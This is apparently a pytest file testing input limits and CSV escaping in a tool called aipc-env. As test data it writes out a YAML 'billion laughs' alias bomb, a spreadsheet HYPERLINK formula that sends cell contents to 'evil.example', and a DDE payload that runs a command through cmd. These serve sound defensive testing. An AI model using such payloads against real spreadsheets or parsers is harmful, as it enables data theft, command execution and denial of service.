"""Every file aipc-env reads from a user is parsed with limits (size, depth, YAML alias expansion), and every cell it
writes into a CSV is one a spreadsheet shows as text: each bound tested at, below and above it, through the real CLI
where a user meets it."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tests.conftest import run_cli
from tests.support.reports import generate_reports


def _nested_json(depth: int) -> str:
    return "[" * depth + "]" * depth


def _nested_yaml(depth: int) -> str:
    return "[" * depth + "]" * depth + "\n"


@pytest.mark.parametrize("parse, nested", [("parse_json", _nested_json), ("parse_yaml", _nested_yaml)])
def test_depth_at_below_and_above_the_bound(parse, nested):
    from aipc_env import fileio
    from aipc_env.errors import InputError

    parser = getattr(fileio, parse)
    for depth in (fileio.MAX_DEPTH - 1, fileio.MAX_DEPTH):
        parser(nested(depth), "f.txt", "test file")
    with pytest.raises(InputError, match="nested deeper than 64 levels") as err:
        parser(nested(fileio.MAX_DEPTH + 1), "f.txt", "test file")
    assert "f.txt" in err.value.render()


@pytest.mark.parametrize("parse, nested", [("parse_json", _nested_json), ("parse_yaml", _nested_yaml)])
def test_nesting_past_the_recursion_limit_is_a_named_error(parse, nested):
    from aipc_env import fileio
    from aipc_env.errors import InputError

    with pytest.raises(InputError, match="nested deeper"):
        getattr(fileio, parse)(nested(100_000), "deep", "test file")


def test_yaml_alias_expansion_bound(monkeypatch):
    from aipc_env import fileio
    from aipc_env.errors import InputError

    monkeypatch.setattr(fileio, "MAX_YAML_NODES", 10)
    fileio.parse_yaml("[" + ", ".join("x" * 8) + "]", "f", "t")  # 9 nodes
    fileio.parse_yaml("[" + ", ".join("x" * 9) + "]", "f", "t")  # 10 nodes: at the bound
    with pytest.raises(InputError, match="expands to more than 10 values"):
        fileio.parse_yaml("[" + ", ".join("x" * 10) + "]", "f", "t")
    # a shared node counts each time it is used: 1 + 3 * (1 + 3) = 13 values from 4 written
    with pytest.raises(InputError, match="anchors and aliases"):
        fileio.parse_yaml("a: &a [x, y, z]\nb: [*a, *a, *a]\n", "f", "t")


def test_a_billion_laughs_winget_file_is_refused_by_name(tmp_path):
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
    bomb = tmp_path / "bomb.dsc.yaml"
    bomb.write_text("\n".join(lines) + "\n")  # ~700 bytes that stand for 9^9 (387 million) strings
    result = run_cli("fleet", "winget", "--check", str(bomb), timeout=60)
    assert result.returncode == 2, (result.stdout, result.stderr[-2000:])
    assert "bomb.dsc.yaml" in result.stderr and "anchors and aliases" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_long_dependency_chain_is_checked_without_recursion(tmp_path):
    import yaml

    count = 1500
    resources = [{"resource": "Microsoft.WinGet.DSC/WinGetPackage", "id": f"r{i}",
                  "directives": {"description": f"step {i}"},
                  "settings": {"id": "Git.Git", "source": "winget"},
                  **({"dependsOn": [f"r{i - 1}"]} if i else {})} for i in range(count)]
    resources[0]["dependsOn"] = [f"r{count - 1}"]  # closes the chain into one cycle of 1,500
    doc = {"properties": {"configurationVersion": "0.2.0", "resources": resources}}
    path = tmp_path / "chain.dsc.yaml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    result = run_cli("fleet", "winget", "--check", str(path), timeout=120)
    assert "Traceback" not in result.stderr and "RecursionError" not in result.stderr
    assert result.returncode == 1 and "dependency cycle: r0 -> r1499 -> r1498" in result.stdout, result.stdout[-800:]


def test_cycle_finder_agrees_on_small_graphs():
    from aipc_env.fleet.winget import _cycle

    assert _cycle({"a": ["b"], "b": ["c"], "c": []}) is None
    assert _cycle({"a": ["a"]}) == ["a", "a"]
    assert _cycle({"a": ["b"], "b": ["c"], "c": ["b"]}) == ["b", "c", "b"]
    assert _cycle({"a": ["x"], "b": ["a"]}) is None  # an unknown id is a different finding, not a cycle


def test_file_size_bound(tmp_path):
    from aipc_env.errors import InputError
    from aipc_env.fileio import read_text

    path = tmp_path / "f.json"
    for size in (1023, 1024):
        path.write_bytes(b" " * size)
        assert len(read_text(path, "test file", max_bytes=1024)) == size
    path.write_bytes(b" " * 1025)
    with pytest.raises(InputError, match="larger than") as err:
        read_text(path, "test file", max_bytes=1024)
    assert "f.json" in err.value.render()


def test_a_deep_report_is_one_unreadable_row_and_the_rest_are_read(tmp_path):
    generate_reports(tmp_path / "r", 2)
    (tmp_path / "r" / "deep.json").write_text('{"findings": ' + _nested_json(50_000) + ', "facts": {}}')
    result = run_cli("fleet", "report", str(tmp_path / "r"), "--json", timeout=120)
    assert "Traceback" not in result.stderr, result.stderr[-2000:]
    rows = {m["key"]: m for m in json.loads(result.stdout)["machines"]}
    assert rows["deep"]["state"] == "unreadable" and "nested deeper" in rows["deep"]["problem"]
    assert sum(m["state"] != "unreadable" for m in rows.values()) == 2


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_never_start_a_formula(start):
    from aipc_env.tabular import csv_text, safe_cell

    payload = start + 'HYPERLINK("http://evil.example/?"&A1,"x")'
    assert safe_cell(payload) == "'" + payload
    assert safe_cell("golden-pc") == "golden-pc" and safe_cell(None) == "" and safe_cell("a=b") == "a=b"
    row = next(csv.reader(io.StringIO(csv_text(["h"], [[payload]]).split("\n", 1)[1])))
    assert row == ["'" + payload]


def test_a_hostile_hostname_reaches_the_fleet_csv_as_text(tmp_path):
    generate_reports(tmp_path / "r", 2)
    report = json.loads((tmp_path / "r" / "AIPC-0000.json").read_text())
    report["facts"]["machine"]["hostname"] = '=cmd|"/c calc"!A1'
    (tmp_path / "r" / "AIPC-0000.json").write_text(json.dumps(report))
    result = run_cli("fleet", "report", str(tmp_path / "r"), "--csv", str(tmp_path / "out.csv"), "--out",
                     str(tmp_path / "out.html"))
    assert result.returncode in (0, 1), result.stderr[-2000:]
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text(encoding="utf-8"))))
    hostnames = {r["hostname"] for r in rows}
    assert "'=cmd|\"/c calc\"!A1" in hostnames
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    assert "=cmd|&quot;/c calc&quot;!A1" in (tmp_path / "out.html").read_text(encoding="utf-8")
